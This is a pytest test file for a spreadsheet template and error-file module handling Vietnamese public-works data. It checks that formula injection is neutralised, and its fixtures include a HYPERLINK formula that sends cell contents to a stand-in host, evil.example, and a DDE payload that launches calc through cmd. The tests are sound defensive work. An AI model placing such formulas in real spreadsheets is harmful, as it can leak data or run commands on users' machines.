"""Templates and error files: what officials download, fill or fix in Excel, and upload again."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from sheets import ErrorLog, SheetError, TextColumn, escape_cell, read_sheet, write_error_file, write_template

from .conftest import HEADERS, WORK_COLUMNS
from .files import Text, csv_bytes, openpyxl_xlsx

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+84912345678", "'+84912345678"),
        ("-1.000", "'-1.000"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+2", "'＝1+2"),
        ("Đường =1", "Đường =1"),
        (" =1", " =1"),
        ("", ""),
        (None, None),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (datetime.date(2025, 1, 1), datetime.date(2025, 1, 1)),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


# -- the template -----------------------------------------------------------------------------------------


def template(columns, **options):
    out = io.BytesIO()
    write_template(columns, out, **options)
    out.seek(0)
    return out


def test_template_has_the_headers_and_a_guide():
    workbook = load_workbook(template(WORK_COLUMNS, title="Danh mục công trình"))
    assert workbook.sheetnames == ["Data", "Guide"]
    data, guide = workbook["Data"], workbook["Guide"]
    assert [cell.value for cell in data[1]] == HEADERS
    assert data.freeze_panes == "A2"
    assert data["A1"].font.bold and data["A1"].fill.fgColor.rgb.endswith("FCE4D6")  # required
    assert data["C1"].fill.fgColor.rgb.endswith("DDEBF7")
    rows = [[cell.value for cell in row] for row in guide.iter_rows()]
    assert rows[0] == ["Danh mục công trình", None, None, None, None, None, None]
    assert rows[2] == ["Column header", "Other accepted headers", "Unit", "Required", "Format", "Example", "Notes"]
    by_header = {row[0]: row for row in rows[3:] if row[0]}
    assert by_header["Mã công trình"][1:6] == ["Work code", None, "Yes", "Code, kept as written", "BK-2022-0001"]
    assert by_header["Mã xã"][4] == "Code of 5 digits, leading zeros kept (type it as text)"
    assert by_header["Tổng mức đầu tư (triệu đồng)"][2:6] == [
        "triệu đồng (the header may say instead: (đồng), (nghìn đồng), (tỷ đồng))",
        "No",
        "Amount in triệu đồng, decimals after a comma: 1.234,5",
        "1.234,5",
    ]
    assert by_header["Loại vốn"][4] == "One of: Development investment; Recurrent (sự nghiệp)"
    assert by_header["Ngày khởi công"][4:6] == ["Date, dd/mm/yyyy", "31/12/2025"]
    assert by_header["Tiến độ (%)"][2] == "%"
    assert any("Numbers are written the Vietnamese way" in (row[0] or "") for row in rows)


def test_template_is_read_back_with_no_rows_and_no_warnings():
    with read_sheet(template(WORK_COLUMNS), WORK_COLUMNS) as sheet:
        assert sheet.header_row == 1
        assert sheet.warnings == []
        assert set(sheet.columns) == {column.key for column in WORK_COLUMNS}
        assert list(sheet) == []


def test_template_neutralises_formulas():
    columns = [TextColumn("note", "Ghi chú", aliases=["=cmd|' /C calc'!A0"], example=INJECTED, help="-5 là âm")]
    workbook = load_workbook(template(columns))
    row = [cell for cell in workbook["Guide"][2]]
    assert row[1].value == "'=cmd|' /C calc'!A0" and row[1].data_type == "s"
    assert row[5].value == "'" + INJECTED and row[5].data_type == "s"
    assert row[6].value == "'-5 là âm"


# -- the error file ---------------------------------------------------------------------------------------


def upload_with_errors(tmp_path):
    return openpyxl_xlsx(
        tmp_path / "upload.xlsx",
        {
            "Công trình": [
                ["UBND TỈNH BẮC KẠN"],
                None,
                HEADERS,
                ["BK-1", Text(INJECTED), "01849", 0.38, 194.6, "ĐTPT", "x", datetime.date(2022, 8, 31), 0.5, 117],
                ["BK-2", "Đường B", "1849", "abc", -5, "", "", "31/02/2025", "", ""],
                None,
                ["BK-3", "Đường C", 1849, 1, 12.5, "", "", datetime.date(2022, 9, 1), "", ""],
            ]
        },
        formats={"I4": "0%"},
    )


def collect(sheet):
    log = ErrorLog()
    for row in sheet:
        log.extend(row.errors)
        if row.number == 7:
            log.add(row.add_error("No work has this code.", column="code"))
    log.add(SheetError("The province is locked for 2022."))
    log.add(SheetError("Repeats row 4.", row=99))
    return log


def test_error_file_xlsx(tmp_path):
    out = io.BytesIO()
    with read_sheet(upload_with_errors(tmp_path), WORK_COLUMNS) as sheet:
        log = collect(sheet)
        write_error_file(sheet, log, out)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["Công trình"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:2] == [None, "UBND TỈNH BẮC KẠN"]
    assert rows[2] == ["Errors\nThe province is locked for 2022.", *HEADERS]
    assert rows[3][0] is None
    assert rows[3][2] == "'" + INJECTED and sheet["C4"].data_type == "s"  # shown, never run
    assert rows[3][8] == datetime.datetime(2022, 8, 31) and sheet["I4"].number_format == "DD/MM/YYYY"
    assert rows[4][0] == (
        "Column “Quy mô (km)”: Expected a number such as 1.234.567, 1.234,5; found “abc”.\n"
        "Column “Tổng mức đầu tư (triệu đồng)”: Expected an amount that is not negative; found “-5”.\n"
        "Column “Ngày khởi công”: Expected a date that exists; found “31/02/2025”: there is no 31/02/2025."
    )
    assert rows[4][5] == -5
    assert rows[5] == [None] * len(rows[5])  # the blank row stays where it was
    assert rows[6][0] == "Column “Mã công trình”: No work has this code."
    assert rows[-1][0] == "Row 99: Repeats row 4."
    assert sheet["A5"].font.color.rgb.endswith("C00000")


def test_error_file_uploads_again_as_it_was(tmp_path):
    out = io.BytesIO()
    with read_sheet(upload_with_errors(tmp_path), WORK_COLUMNS) as sheet:
        log = collect(sheet)
        write_error_file(sheet, log, out)
    with read_sheet(upload_with_errors(tmp_path), WORK_COLUMNS) as original:
        before = [(row.number, row.values) for row in original]
    out.seek(0)
    with read_sheet(out, WORK_COLUMNS) as again:
        after = [(row.number, row.values) for row in again]
        assert again.warnings == []  # the error column is not an unknown column
    assert after == before


def test_error_file_csv_from_a_csv_keeps_its_separator_and_cells():
    upload = csv_bytes(
        [
            ["Báo cáo"],
            ["Mã công trình", "Tên công trình", "Tổng mức đầu tư (triệu đồng)", "Ghi chú"],
            ["BK-1", "-Đường A", "1.234,5", "@note"],
            ["BK-2", "Đường B", "12.5", ""],
        ],
        delimiter=";",
    )
    out = io.BytesIO()
    with read_sheet(upload, WORK_COLUMNS) as sheet:
        log = ErrorLog()
        for row in sheet:
            log.extend(row.errors)
        write_error_file(sheet, log, out)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [
        ["", "Báo cáo"],
        ["Errors", "Mã công trình", "Tên công trình", "Tổng mức đầu tư (triệu đồng)", "Ghi chú"],
        ["", "BK-1", "'-Đường A", "1.234,5", "'@note"],
        [
            "Column “Tổng mức đầu tư (triệu đồng)”: “12.5” is written with English separators but this column uses "
            "Vietnamese ones (dot for thousands, comma for decimals): write it as 12,5.",
            "BK-2",
            "Đường B",
            "12.5",
            "",
        ],
    ]
    with read_sheet(data, WORK_COLUMNS) as again:
        assert [row["name"] for row in again] == ["-Đường A", "Đường B"]


def test_error_file_csv_from_a_workbook(tmp_path):
    out = io.BytesIO()
    with read_sheet(upload_with_errors(tmp_path), WORK_COLUMNS) as sheet:
        write_error_file(sheet, collect(sheet), out, format="csv")
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert rows[3][1:] == ["BK-1", "'" + INJECTED, "01849", "0,38", "194,6", "ĐTPT", "x", "31/08/2022", "50%", "117"]
    assert rows[4][5:7] == ["'-5", ""]
    with read_sheet(out.getvalue(), WORK_COLUMNS) as again:
        values = [row.values for row in again]
    assert values[0]["investment"] == 194_600_000 and values[0]["progress"] == Decimal("50")


def test_error_file_notes_dropped_errors(tmp_path):
    log = ErrorLog(max_errors=1)
    log.extend([SheetError("a", row=4), SheetError("b", row=5), SheetError("c", row=5)])
    assert len(log) == 3 and log.dropped == 2
    out = io.BytesIO()
    with read_sheet(upload_with_errors(tmp_path), WORK_COLUMNS) as sheet:
        write_error_file(sheet, log, out)
    rows = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert rows[2][0] == "Errors\n… and 2 more errors not listed."
    assert rows[3][0] == "a"


def test_error_file_path_output(tmp_path):
    target = tmp_path / "loi.xlsx"
    with read_sheet(upload_with_errors(tmp_path), WORK_COLUMNS) as sheet:
        write_error_file(sheet, [], target)
    assert load_workbook(target).active["A3"].value == "Errors"
    with pytest.raises(ValueError, match="unknown format"), read_sheet(target, WORK_COLUMNS) as sheet:
        write_error_file(sheet, [], io.BytesIO(), format="ods")
